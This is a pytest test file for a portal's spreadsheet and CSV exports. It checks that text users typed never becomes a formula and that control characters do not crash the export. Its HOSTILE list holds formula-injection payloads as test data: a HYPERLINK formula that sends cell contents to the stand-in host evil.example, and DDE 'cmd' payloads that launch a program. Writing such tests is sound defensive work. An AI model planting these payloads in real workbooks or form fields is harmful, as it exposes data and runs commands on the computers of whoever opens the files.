"""No cell a user typed becomes a formula (core.spreadsheets), in any workbook or CSV the
portal builds: the rule, then every export that carries user text."""

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from core.spreadsheets import csv_row, is_formula_like, xlsx_row
from filings.models import AllianceMember
from portal.dossier import build_dossier
from portal.exports import build_workbook
from tests.factories import LeadUnitUserFactory, MunicipalStaffFactory, filed_alliance

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_texts_are_recognised(value):
    assert is_formula_like(value)


@pytest.mark.parametrize("value", ["保定联盟", "1+1", "", 5, -3, None, "a=b"])
def test_ordinary_values_are_left_alone(value):
    assert not is_formula_like(value)
    assert csv_row([value]) == [value]


def _cells(data: bytes):
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            yield from row


@pytest.mark.parametrize("write_only", [True, False])
def test_a_workbook_keeps_the_text_and_never_a_formula(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("t") if write_only else book.active
    sheet.append(xlsx_row(sheet, [*HOSTILE, 42]))
    out = io.BytesIO()
    book.save(out)
    cells = list(_cells(out.getvalue()))

    # The text is unchanged, but for a carriage return: openpyxl keeps it when lxml is
    # installed (pyHanko brings it) and XML's reader turns it into a line feed without.
    def same(value):
        return value.replace("\r", "\n") if isinstance(value, str) else value

    assert [same(c.value) for c in cells] == [*(same(v) for v in HOSTILE), 42]
    assert all(c.data_type != "f" for c in cells)


def test_csv_values_get_an_apostrophe():
    assert csv_row(HOSTILE) == [f"'{v}" for v in HOSTILE]


@pytest.fixture
def hostile_alliance(db):
    lead = LeadUnitUserFactory()
    lead.organisation.name = "+保定恶意科技有限公司"
    lead.organisation.save()
    alliance = filed_alliance(lead_user=lead, name=HOSTILE[0], office_contact_name="@王五")
    AllianceMember.objects.filter(alliance=alliance).update(task_division=HOSTILE[1])
    return alliance


def _no_formula_in_csv(text: str):
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for value in row:
            assert not is_formula_like(value), value


@pytest.mark.parametrize("kind", ["alliances", "filings"])
def test_staff_exports_carry_user_text_as_text(hostile_alliance, kind):
    data = build_workbook(kind, MunicipalStaffFactory(), {})
    cells = list(_cells(data))
    if kind == "alliances":
        assert HOSTILE[0] in [c.value for c in cells]
    assert all(c.data_type != "f" for c in cells)


def test_the_dossier_csv_files_carry_user_text_as_text(hostile_alliance):
    archive = zipfile.ZipFile(io.BytesIO(build_dossier(hostile_alliance)))
    names = [n for n in archive.namelist() if n.endswith(".csv")]
    assert "members.csv" in names
    members = archive.read("members.csv").decode("utf-8-sig")
    assert f"'{HOSTILE[1]}" in members
    for name in names:
        _no_formula_in_csv(archive.read(name).decode("utf-8-sig"))


def test_the_subsidy_ranking_carries_user_text_as_text(db):
    from subsidies.aggregation import ranking
    from subsidies.exports import ranking_workbook
    from tests.factories import eligible_alliance, submitted_application, subsidy_round

    round_ = subsidy_round()
    alliance = eligible_alliance(round_.year, name=HOSTILE[0])
    submitted_application(round_, alliance)
    cells = list(_cells(ranking_workbook(round_, ranking(round_), round_.criteria.all())))
    assert HOSTILE[0] in [c.value for c in cells]
    assert all(c.data_type != "f" for c in cells)


def test_the_provincial_recommendations_carry_user_text_as_text(hostile_alliance):
    import datetime

    from supervision.exports_recommendations import recommendations_xlsx
    from supervision.models import ProvincialRecommendation
    from supervision.selectors import recommendations_visible_to
    from supervision.services.recommendations import recommendation_create

    staff = MunicipalStaffFactory()
    recommendation_create(
        alliance=hostile_alliance,
        by=staff,
        kind=ProvincialRecommendation.Kind.values[0],
        note=HOSTILE[4],
        recommended_on=datetime.date(2026, 3, 1),
    )
    cells = list(_cells(recommendations_xlsx(recommendations_visible_to(staff))))
    values = [c.value for c in cells]
    assert HOSTILE[0] in values and HOSTILE[4] in values
    assert all(c.data_type != "f" for c in cells)


# --- Penetration test (release after issue 11): control characters ------------------------
# A lead unit named its draft alliance “联盟\x1b\x07名称”: openpyxl refused the whole
# workbook (IllegalCharacterError), so POST /exports/new/ kind=alliances answered 500 for
# the bureau, and every other workbook listing that alliance failed the same way.

CONTROL = "联盟\x1b\x07\x0b名称"


@pytest.mark.parametrize("write_only", [True, False])
def test_control_characters_are_dropped_not_fatal(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("t") if write_only else book.active
    sheet.append(xlsx_row(sheet, [CONTROL, "=1+1\x1b"]))
    out = io.BytesIO()
    book.save(out)
    assert [c.value for c in _cells(out.getvalue())] == ["联盟名称", "=1+1"]


@pytest.mark.django_db
def test_an_alliance_named_with_a_control_character_does_not_stop_the_export():
    alliance = filed_alliance()
    alliance.name = CONTROL
    alliance.save(update_fields=["name"])
    data = build_workbook("alliances", MunicipalStaffFactory(), {})
    assert "联盟名称" in [c.value for c in _cells(data)]
